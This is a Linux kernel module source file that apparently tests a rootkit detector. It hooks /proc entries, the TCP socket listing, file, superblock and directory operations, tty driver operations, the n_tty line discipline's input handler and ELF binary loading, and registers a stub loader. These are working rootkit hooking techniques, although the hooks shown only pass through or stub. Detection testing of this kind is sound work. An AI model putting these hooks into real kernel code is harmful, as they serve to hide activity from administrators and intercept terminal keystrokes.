// SPDX-License-Identifier: GPL-2.0
/* Files: entries of /proc, open files, directories, file systems, programs, terminals. */
#include <linux/binfmts.h>
#include <linux/fdtable.h>
#include <linux/fs.h>
#include <linux/fs_struct.h>
#include <linux/tty_driver.h>
#include <linux/tty_ldisc.h>
#include <net/net_namespace.h>

#include "internal.h"

#include "attack.h"

static struct proc_dir_entry *entry(struct proc_dir_entry *directory, const char *name)
{
	struct rb_node *node;

	for (node = directory ? rb_first(&directory->subdir) : NULL; node; node = rb_next(node)) {
		struct proc_dir_entry *found = rb_entry(node, struct proc_dir_entry, subdir_node);

		if (!strcmp(found->name, name))
			return found;
	}
	pr_err("attack: no /proc/%s\n", name);
	return NULL;
}

static struct proc_dir_entry *uptime(void)
{
	return entry(symbol("proc_root"), "uptime");
}

static int proc_operations(void)
{
	struct proc_dir_entry *file = uptime();

	return file ? hook_table(&file->proc_ops, sizeof(*file->proc_ops), offsetof(struct proc_ops, proc_lseek)) : -ENOENT;
}

static int proc_show(void)
{
	struct proc_dir_entry *file = uptime();

	return file ? hook(&file->single_show) : -ENOENT;
}

static int tcp_sequence(void)
{
	struct proc_dir_entry *file = entry(init_net.proc_net, "tcp");

	return file ? hook_table(&file->seq_ops, sizeof(*file->seq_ops), offsetof(struct seq_operations, show)) : -ENOENT;
}

static int file_operations(void)
{
	struct task_struct *task = victim();
	struct file *file = task && task->files ? rcu_access_pointer(rcu_access_pointer(task->files->fdt)->fd[0]) : NULL;

	return file ? hook_table(&file->f_op, sizeof(*file->f_op), offsetof(struct file_operations, llseek)) : -ENOENT;
}

static int super_operations(void)
{
	struct super_block *root = init_task.fs->root.mnt->mnt_sb;

	return hook_table(&root->s_op, sizeof(*root->s_op), offsetof(struct super_operations, statfs));
}

static int directory_operations(void)
{
	struct inode *root = d_inode(init_task.fs->root.dentry);

	return hook_table(&root->i_fop, sizeof(*root->i_fop), offsetof(struct file_operations, iterate_shared));
}

static int read_only_operations(void)
{
	struct file_operations *table = symbol("proc_root_operations");

	return table ? hook(&table->iterate_shared) : -ENOENT;
}

static int tty_operations_table(void)
{
	struct list_head *drivers = symbol("tty_drivers");
	struct tty_driver *driver;

	if (!drivers || list_empty(drivers))
		return -ENOENT;
	driver = list_first_entry(drivers, struct tty_driver, tty_drivers);
	return hook_table(&driver->ops, sizeof(*driver->ops), offsetof(struct tty_operations, chars_in_buffer));
}

static int line_discipline(void)
{
	struct tty_ldisc_ops *n_tty = symbol("n_tty_ops");

	return n_tty ? hook(&n_tty->receive_buf2) : -ENOENT;
}

/* The same into this module, which everybody can see: the table says that it belongs to the kernel. */
static int (*receive)(struct tty_struct *tty, const unsigned char *text, const char *flags, int count);

static int listen(struct tty_struct *tty, const unsigned char *text, const char *flags, int count)
{
	return receive(tty, text, flags, count);
}

static int line_discipline_module(void)
{
	struct tty_ldisc_ops *n_tty = symbol("n_tty_ops");

	if (!n_tty)
		return -ENOENT;
	receive = n_tty->receive_buf2;
	return poke(&n_tty->receive_buf2, (unsigned long)listen);
}

static int elf_loader(void)
{
	struct linux_binfmt *elf = symbol("elf_format");

	return elf ? hook(&elf->load_binary) : -ENOENT;
}

static struct linux_binfmt *loader;

static int own_loader(void)
{
	loader = scratch(sizeof(*loader));
	if (!loader)
		return -ENOMEM;
	loader->load_binary = stub(-ENOEXEC);
	register_binfmt(loader);
	return 0;
}

static void no_loader(void)
{
	if (loader)
		unregister_binfmt(loader);
	loader = NULL;
}

const struct attack vfs_attacks[] = {
	{ "proc-ops", proc_operations },
	{ "proc-show", proc_show },
	{ "tcp-seq", tcp_sequence },
	{ "file-ops", file_operations },
	{ "super-ops", super_operations },
	{ "dir-ops", directory_operations },
	{ "rodata-ops", read_only_operations },
	{ "tty-ops", tty_operations_table },
	{ "ldisc", line_discipline },
	{ "ldisc-module", line_discipline_module },
	{ "binfmt-elf", elf_loader },
	{ "binfmt-own", own_loader, no_loader },
	{ },
};
